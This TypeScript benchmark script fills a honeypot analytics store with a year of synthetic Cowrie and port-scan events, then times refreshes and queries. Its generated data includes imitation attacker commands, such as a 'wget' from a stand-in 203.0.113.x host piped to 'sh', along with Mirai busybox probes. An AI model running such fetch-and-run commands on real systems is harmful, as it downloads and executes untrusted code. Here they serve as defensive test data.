/**
 * A year of honeypots, scaled down: made in the store itself, refreshed, and asked the questions of a year; besides, one hour at the full
 * national rate. `node bench/honeypots-year.ts [connections a day] [connections of the full hour]`
 */
import { readdirSync, readFileSync } from 'node:fs'
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { openApp } from '../src/app.ts'
import {
  campaigns,
  type Dimension,
  dimensions,
  honeypotReader,
  indicators,
  loadHoneypotKnowledge,
  loadIndicatorAges,
  newcomers,
  rank,
  refreshHoneypots,
  sessions,
  timeSeries,
  totals,
} from '../src/domains/honeypot/index.ts'
import { openLocations } from '../src/domains/locations/index.ts'
import { readSettings } from '../src/settings.ts'
import { declared, type EventStore, sql } from '../src/store/events/index.ts'
import { median } from './measure.ts'

/** Connections of all national honeypots in a year. */
const national = 11_000_000_000
const [perDay = 20_000, fullHour = Math.round(national / 366 / 24)] = process.argv.slice(2).map(Number)
const begin = Date.parse('2027-01-01T00:00:00+08:00') / 1000
const days = 366

/**
 * Connections [from, from + count) spread over `seconds`: three of five are Cowrie's (some four rows), the rest port scans of one row.
 * Few sources, names and passwords are most of all; one command in twenty is unlike any other.
 */
function connections(from: number, count: number, start: number, seconds: number): string {
  const skewed = (salt: number, size: number, power: number): string =>
    `toUInt64(floor(${size} * pow((cityHash64(i, ${salt}) % 1000003) / 1000003., ${power})))`
  const pair = skewed(5, 200_000, 4)
  return `
SELECT toDateTime64(${start} + cityHash64(i, 13) % ${seconds} + event.2, 3, 'UTC') AS time, 'bench' AS metadata_product_name, concat('sensor-', toString(${skewed(1, 400, 1.5)})) AS device_uid,
  event.1 AS activity_id, if(event.1 = 3, 2 - toUInt8(event.3 = 0 AND i % 3 = 0), 0) AS status_id, if(is_cowrie, cityHash64(i), 0) AS session_uid,
  toIPv6(concat('::ffff:', IPv4NumToString(toUInt32(16777216 + (cityHash64(${skewed(2, 2_000_000, 3)}) % 3700000000))))) AS src_endpoint_ip,
  toUInt16(1024 + cityHash64(i, 3) % 60000) AS src_endpoint_port,
  toUInt16(if(is_cowrie, if(i % 4 = 0, 23, 22), ${skewed(4, 65535, 4)})) AS dst_endpoint_port, 6 AS connection_info_protocol_num,
  if(is_cowrie, if(i % 4 = 0, 'telnet', 'ssh'), '') AS dst_endpoint_svc_name,
  if(event.1 = 3, concat('user', toString(${pair} % 1500 + event.3)), '') AS user_name,
  if(event.1 = 3, concat('pass', toString(${pair} + event.3)), '') AS password, if(event.1 = 3, 3, 0) AS credential_parts,
  multiIf(event.1 != 4, '', i % 20 = 0, concat('cd /tmp; wget http://203.0.113.', toString(cityHash64(i, 7) % 250), '/', hex(cityHash64(i, 8)), '; sh ', hex(cityHash64(i, 8))),
    i % 7 = 0, '/bin/busybox MIRAI', concat('uname -a; echo ', toString(${skewed(9, 300, 3)}))) AS process_cmd_line,
  if(event.1 = 5, lower(hex(SHA256(toString(${skewed(10, 3000, 3)})))), '') AS file_hashes_sha256,
  if(event.1 = 5, concat('http://203.0.113.', toString(cityHash64(i, 7) % 250), '/bins.sh'), '') AS url_string,
  if(event.1 = 2, concat('SSH-2.0-Go-', toString(${skewed(11, 200, 4)})), '') AS client_version, toDateTime(${start}) AS metadata_processed_time, intDiv(i, 250000) AS batch
FROM (SELECT number + ${from} AS i, cityHash64(i, 12) % 5 < 3 AS is_cowrie FROM numbers(${count}))
ARRAY JOIN if(is_cowrie, arrayConcat([(1, 0, 0), (2, 0, 0), (3, 1, 0), (3, 2, 1), (6, 20, 0)], if(i % 3 = 0, [(4, 3, 0), (4, 4, 1)], []), if(i % 40 = 0, [(5, 5, 0)], [])), [(1, 0, 0)]) AS event`
}

async function make(
  store: EventStore,
  from: number,
  count: number,
  start: number,
  seconds: number,
): Promise<void> {
  const columns =
    'time, metadata_product_name, device_uid, activity_id, status_id, session_uid, src_endpoint_ip, src_endpoint_port, dst_endpoint_port, connection_info_protocol_num, dst_endpoint_svc_name, user_name, password, credential_parts, process_cmd_line, file_hashes_sha256, url_string, client_version, metadata_processed_time, batch'
  const rows = connections(from, count, start, seconds)
  await store.command(declared(`INSERT INTO honeypot_event (${columns}) ${rows}`))
  await store.command(
    declared(
      `INSERT INTO honeypot_count (start_time, device_uid, metadata_product_name, activity_id, dst_endpoint_svc_name, events, batch) SELECT toStartOfHour(time) AS h, device_uid, metadata_product_name, activity_id, dst_endpoint_svc_name, count(), batch FROM (${rows}) GROUP BY h, device_uid, metadata_product_name, activity_id, dst_endpoint_svc_name, batch`,
    ),
  )
}

interface Size {
  readonly table: string
  readonly rows: number
  readonly bytes: number
}

const sizes = (store: EventStore): Promise<Size[]> =>
  store.query<Size>(
    sql`SELECT table, sum(rows) AS rows, sum(bytes_on_disk) AS bytes FROM system.parts WHERE active AND database = currentDatabase() AND startsWith(table, 'honeypot') GROUP BY table ORDER BY bytes DESC`,
  )

async function timed(work: () => Promise<unknown>, times = 3): Promise<number> {
  const taken: number[] = []
  for (let i = 0; i < times; i++) {
    const start = performance.now()
    await work()
    taken.push(performance.now() - start)
  }
  return median(taken)
}

/** Of this process and its children, the engine among them. */
function cpuSeconds(): number {
  const { user, system } = process.cpuUsage()
  let ticks = 0
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    try {
      const fields = readFileSync(`/proc/${pid}/stat`, 'utf8')
        .replace(/^.*\) /s, '')
        .split(' ')
      if (Number(fields[1]) === process.pid) ticks += Number(fields[11]) + Number(fields[12])
    } catch {
      // It has ended.
    }
  }
  return (user + system) / 1e6 + ticks / 100
}

/** Wall-clock and processor seconds of work, and its result. */
async function spent<Result>(
  work: () => Promise<Result>,
): Promise<{ seconds: number; cpu: number; result: Result }> {
  const [start, before] = [performance.now(), cpuSeconds()]
  const result = await work()
  return { seconds: (performance.now() - start) / 1000, cpu: cpuSeconds() - before, result }
}

const data = await mkdtemp(path.join(tmpdir(), 'honeypots year '))
const say = (line: string): void => void process.stdout.write(`${line}\n`)
const app = await openApp({
  ...readSettings(process.env, data),
  retention: { events: 36_500, raw: 36_500, unmapped: 36_500 },
})
try {
  const { store } = app
  const knowledge = loadHoneypotKnowledge()
  const locations = openLocations({ countries: undefined, networks: undefined })
  await locations.finder()
  const refresh = (share = 1) =>
    refreshHoneypots(store, {
      knowledge,
      timeZone: 'Asia/Taipei',
      finder: () => locations.finder(),
      share,
      now: () => (begin + 800 * 86_400) * 1000,
    })
  const shown = (one: Size[], connected: number): void => {
    for (const { table, rows, bytes } of one)
      say(
        `  ${table}: ${rows} rows, ${bytes} bytes, ${(bytes / rows).toFixed(1)} a row, ${(bytes / connected).toFixed(2)} a connection`,
      )
  }

  // One hour as it would be.
  await make(store, 0, fullHour, begin - 40 * 86_400, 3600)
  const [hour] = await sizes(store)
  const perMillion = (amount: number, events: number): string => ((amount * 1e6) / events).toFixed(1)
  const first = await spent(() => refresh())
  const { events } = first.result
  say(
    `full hour: ${fullHour} connections, ${hour!.rows} rows; first refresh ${first.seconds.toFixed(1)} s, a million rows ${perMillion(first.seconds, events)} s, ${perMillion(first.cpu, events)} s of processors`,
  )
  await make(store, 0, 1, begin - 40 * 86_400, 3600)
  const again = await spent(() => refresh())
  say(
    `  again, nothing new to judge: ${again.seconds.toFixed(1)} s, a million rows ${perMillion(again.cpu, events)} s of processors`,
  )
  shown(await sizes(store), fullHour)
  const full = await sizes(store)
  for (const { table } of full) await store.command(declared(`TRUNCATE TABLE ${table}`))

  const connected = perDay * days
  const made = await spent(async () => {
    for (let day = 0; day < days; day += 30) {
      const some = Math.min(30, days - day)
      await make(store, day * perDay, some * perDay, begin + day * 86_400, some * 86_400)
    }
  })
  say(`year: ${connected} connections made in ${made.seconds.toFixed(0)} s`)
  const whole = await spent(() => refresh())
  const { hours, days: merged, events: read } = whole.result
  say(
    `refresh: ${whole.seconds.toFixed(0)} s for ${read} rows in ${hours} hours and ${merged} days; a million rows ${perMillion(whole.seconds, read)} s, ${perMillion(whole.cpu, read)} s of processors`,
  )
  say(
    `refresh when nothing changed: ${(await timed(() => refresh(), 5)).toFixed(0)} ms, all looked through; ${(await timed(() => refresh(0.1), 5)).toFixed(0)} ms otherwise`,
  )
  await store.command(sql`OPTIMIZE TABLE honeypot_day FINAL`)
  const year = await sizes(store)
  shown(year, connected)
  const bytesOf = (some: readonly Size[], table: string): number =>
    some.find((one) => one.table === table)?.bytes ?? 0
  const tera = (bytes: number): string => `${(bytes / 1e12).toFixed(2)} TB`
  say(
    `at ${national} connections: events ${tera((bytesOf(year, 'honeypot_event') / connected) * national)}, hours ${tera(bytesOf(full, 'honeypot_hour') * 8784)}, payloads at most ${tera((bytesOf(year, 'honeypot_payload') / connected) * national)}`,
  )

  const reader = honeypotReader(store, { kind: 'centre' })
  const period = { from: begin, to: begin + days * 86_400, timeZone: 'Asia/Taipei' }
  const half = { ...period, from: begin + 183 * 86_400 }
  const questions: Record<string, () => Promise<unknown>> = {
    'totals of the year': () => totals(reader, { period }),
    'series by day and service': () => timeSeries(reader, { period, step: 'day', group: 'service' }),
    ...Object.fromEntries(
      (Object.keys(dimensions) as Dimension[]).map((dimension) => [
        `Top 10 of ${dimension}`,
        () => rank(reader, { dimension, period, limit: 10 }),
      ]),
    ),
    'Top 10 of password, half a year against the other': () =>
      rank(reader, { dimension: 'password', period: half, limit: 10 }),
    'campaigns at three sensors': () => campaigns(reader, knowledge, { period, sensors: 3, limit: 100 }),
    'new commands of the last month': () =>
      newcomers(reader, {
        dimension: 'command',
        period: { ...period, from: begin + 336 * 86_400 },
        limit: 100,
      }),
    indicators: () => indicators(reader, { period, asOf: period.to, ages: loadIndicatorAges(), limit: 1000 }),
    'latest 50 sessions': () => sessions(reader, knowledge, { period, limit: 50 }),
    'latest 50 sessions of Mirai': () => sessions(reader, knowledge, { period, limit: 50, family: 'mirai' }),
    'sessions of one source': () => sessions(reader, knowledge, { period, limit: 50, source: '8.8.8.8' }),
  }
  for (const [name, ask] of Object.entries(questions)) say(`${name}: ${(await timed(ask)).toFixed(0)} ms`)

  const lookups = {
    'events of one session': `SELECT count() FROM honeypot_event WHERE session_uid = (SELECT any(session_uid) FROM honeypot_event WHERE session_uid != 0)`,
    'events of one source': `SELECT count() FROM honeypot_event WHERE src_endpoint_ip = (SELECT argMax(ip, judged_at) FROM honeypot_source WHERE country = 'TW')`,
  }
  for (const [name, text] of Object.entries(lookups))
    say(`${name}, no index: ${(await timed(() => store.query(declared(text)))).toFixed(0)} ms`)
  for (const column of ['session_uid', 'src_endpoint_ip']) {
    await store.command(
      declared(
        `ALTER TABLE honeypot_event ADD INDEX by_${column} ${column} TYPE bloom_filter(0.01) GRANULARITY 1`,
      ),
    )
    await store.command(
      declared(`ALTER TABLE honeypot_event MATERIALIZE INDEX by_${column} SETTINGS mutations_sync = 1`),
    )
  }
  for (const [name, text] of Object.entries(lookups))
    say(`${name}, bloom filters: ${(await timed(() => store.query(declared(text)))).toFixed(0)} ms`)
  for (const row of await store.query<{ name: string; bytes: number }>(
    sql`SELECT name, sum(data_compressed_bytes) AS bytes FROM system.data_skipping_indices WHERE database = currentDatabase() GROUP BY name`,
  ))
    say(
      `  ${row.name}: ${row.bytes} bytes, ${((100 * row.bytes) / bytesOf(year, 'honeypot_event')).toFixed(1)} % of the events`,
    )
} finally {
  await app.close()
  await rm(data, { recursive: true, force: true })
}
